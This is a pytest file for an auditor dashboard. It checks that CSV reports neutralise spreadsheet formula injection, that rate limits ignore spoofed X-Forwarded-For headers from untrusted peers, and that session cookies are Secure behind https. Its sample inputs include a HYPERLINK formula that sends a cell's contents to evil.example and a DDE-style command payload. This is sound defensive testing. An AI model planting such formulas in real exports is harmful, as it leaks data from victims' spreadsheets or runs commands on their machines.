"""#13.12 (dashboard): CSV reports cannot smuggle spreadsheet formulas, rate limits key on the
real client only behind a named proxy, and the session cookie is Secure behind https."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from eth_account import Account
from fastapi.testclient import TestClient

from pcn.auditor.reports import read_csv_sections, report_csv
from pcn.auditor.store import Store
from pcn.auditor.web import create_dashboard_app
from pcn.auditor.web.dashboard import COOKIE, parse_trusted_proxies
from pcn.auditor.web.siwe import iso, sign_message
from pcn.chain.ledger import Ledger
from pcn.devnet.deploy import devnet_key
from tests.helpers import h
from tests.test_auditor_support import indexer
from tests.test_auditor_web import DOMAIN, World, fresh_message, populated, sign_in

PROXY = ("10.0.0.2", 40000)  # the reverse proxy's address as the dashboard sees it
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def world(devnet, deployment, tmp_path_factory) -> Iterator[World]:
    with populated(devnet, deployment, tmp_path_factory.mktemp("auditor-hardening")) as w:
        yield w


def dashboard(world: World, client: tuple[str, int] = PROXY, **kw: object) -> TestClient:
    app = create_dashboard_app(world.store, world.ledger(), domain=DOMAIN, **kw)  # type: ignore[arg-type]
    return TestClient(app, follow_redirects=False, client=client)


# ---------------------------------------------------------------------------- CSV


def test_csv_report_cells_cannot_start_a_formula_and_rows_end_in_crlf(world: World, snapshot, tmp_path: Path):
    admin = Ledger(world.deployment, account=Account.from_key(devnet_key(0)))
    evil = Account.from_key(devnet_key(8)).address
    admin.admit(evil, EVIL_NAME, h("k"), "https://evil.example")
    st = Store(tmp_path / "evil.sqlite")
    try:
        indexer(world.deployment, st).run_once()
        c = TestClient(create_dashboard_app(st, world.ledger(), domain=DOMAIN), follow_redirects=False)
        assert sign_in(c).status_code == 200
        q = {"from": iso(0), "to": iso(time.time() + 3600), "format": "csv"}
        r = c.get("/reports/download", params=q)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    finally:
        st.dispose()
    raw = r.content.decode()
    assert raw.endswith("\r\n") and raw.count("\n") == raw.count("\r\n")  # every row ends in CRLF
    orgs = read_csv_sections(raw)["Organisations"]
    assert [o["name"] for o in orgs if o["account"] == evil] == ["'" + EVIL_NAME]
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    report = {
        "period": {"from": "a", "to": "b"},
        "as_of_block": 1,
        "tasks": [],
        "anomalies": [],
        "refusals_by_reason": [],
        "dataset_usage": [],
        "organisations": [{"account": "0x1", "name": text, "status": "active"}],
    }
    rows = read_csv_sections(report_csv(report))["Organisations"]
    assert rows[0]["name"] == "'" + text and rows[0]["account"] == "0x1"


# ---------------------------------------------------------------------------- client address


def attempts_until_limited(c: TestClient, forwarded_for: str) -> int:
    for n in range(1, 10):
        r = c.get("/auth/nonce", headers={"x-forwarded-for": forwarded_for})
        if r.status_code == 429:
            return n - 1
    return 10


def test_forwarded_for_is_ignored_unless_the_peer_is_a_trusted_proxy(world: World):
    c = dashboard(world, nonce_limit=2)  # no trusted proxy: everyone behind 10.0.0.2 is one client
    assert attempts_until_limited(c, "198.51.100.1") == 2
    assert attempts_until_limited(c, "198.51.100.2") == 0  # a made-up header does not reset the limit
    spoofer = dashboard(world, client=("203.0.113.7", 5000), nonce_limit=2, trusted_proxies=["10.0.0.0/8"])
    assert attempts_until_limited(spoofer, "198.51.100.1") == 2
    assert attempts_until_limited(spoofer, "198.51.100.2") == 0  # not a proxy: its header is not believed


def test_behind_a_trusted_proxy_each_real_client_has_its_own_limit(world: World):
    c = dashboard(world, nonce_limit=2, login_limit=2, trusted_proxies=["10.0.0.0/8", "192.0.2.5"])
    assert attempts_until_limited(c, "198.51.100.1") == 2
    assert attempts_until_limited(c, "198.51.100.2") == 2  # another user is not locked out by the first
    # the rightmost hop that is not a trusted proxy counts: a client's own claims to its left do not
    assert attempts_until_limited(c, "1.1.1.1, 198.51.100.1") == 0
    assert attempts_until_limited(c, "2.2.2.2, 198.51.100.1, 192.0.2.5") == 0
    assert attempts_until_limited(c, "not-an-ip") == 2  # malformed: the proxy's own address, once
    assert attempts_until_limited(c, "still-not-an-ip") == 0
    c = dashboard(world, login_limit=2, trusted_proxies=["10.0.0.0/8"])  # sign-in attempts likewise
    for _ in range(2):
        message = fresh_message(c)
        bad = c.post(
            "/auth/verify",
            json={"message": message, "signature": "0x" + "11" * 65},
            headers={"x-forwarded-for": "198.51.100.9"},
        )
        assert bad.status_code == 401
    limited = c.post("/auth/verify", json={}, headers={"x-forwarded-for": "198.51.100.9"})
    assert limited.status_code == 429
    other = c.post("/auth/verify", json={}, headers={"x-forwarded-for": "198.51.100.10"})
    assert other.status_code == 400  # not limited: a different client behind the same proxy


def test_bad_trusted_proxy_settings_are_an_error():
    with pytest.raises(ValueError, match=r"'10\.0\.0\.0/33' is not an IP address or CIDR network"):
        parse_trusted_proxies(["192.0.2.1, 10.0.0.0/33"])
    assert [str(n) for n in parse_trusted_proxies(["10.0.0.0/8,  ::1", "192.0.2.7"])] == [
        "10.0.0.0/8",
        "::1/128",
        "192.0.2.7/32",
    ]


# ---------------------------------------------------------------------------- Secure cookie


def session_cookie(c: TestClient, **headers: str) -> str:
    message = fresh_message(c)
    r = c.post(
        "/auth/verify",
        json={"message": message, "signature": _sign(message)},
        headers=headers,
    )
    assert r.status_code == 200, r.text
    cookie = r.headers["set-cookie"]
    assert cookie.startswith(f"{COOKIE}=")
    return cookie


def _sign(message: str) -> str:
    return sign_message(message, devnet_key(1))


def test_the_session_cookie_is_secure_behind_https(world: World):
    https = {"x-forwarded-proto": "https", "x-forwarded-for": "198.51.100.20"}
    proxied = dashboard(world, trusted_proxies=["10.0.0.0/8"])
    assert "Secure" in session_cookie(proxied, **https)
    assert "Secure" not in session_cookie(proxied, **{"x-forwarded-for": "198.51.100.21"})
    untrusted = dashboard(world, client=("203.0.113.7", 5000), trusted_proxies=["10.0.0.0/8"])
    assert "Secure" not in session_cookie(untrusted, **https)  # only a trusted proxy says https
    forced = dashboard(world, secure_cookies=True)
    assert "Secure" in session_cookie(forced)
